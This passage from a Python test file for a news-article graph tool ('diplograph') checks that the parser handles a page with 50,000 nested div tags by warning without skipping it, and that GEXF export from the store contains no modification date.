    from diplograph.corpus import Article, ArticleProblem, iter_articles

    page = tmp_path / "deep.html"
    page.write_text("<html><body>" + "<div>" * 50_000 + "<p>The minister met his counterpart in Baku.</p>"
                    + "</div>" * 50_000 + "</body></html>", encoding="utf-8")
    items = list(iter_articles([page]))
    warnings = [i for i in items if isinstance(i, ArticleProblem)]
    articles = [i for i in items if isinstance(i, Article)]
    assert len(warnings) == 1 and "nested" in warnings[0].message and not warnings[0].skipped
    assert articles and articles[0].text == "The minister met his counterpart in Baku."


def test_gexf_exported_from_the_store_holds_no_date(tmp_path):
    """The store's export path writes GEXF with the same writer as the file path (no day's date)."""
    from diplograph.build import build
    from diplograph.export import export

    store = tmp_path / "store"
    build([ROOT / "articles"], [], store=store)
    (out,) = export([], "gexf", tmp_path / "g.gexf", store=store)
    blob = out.read_bytes()
    assert b"lastmodifieddate" not in blob and b"<node " in blob
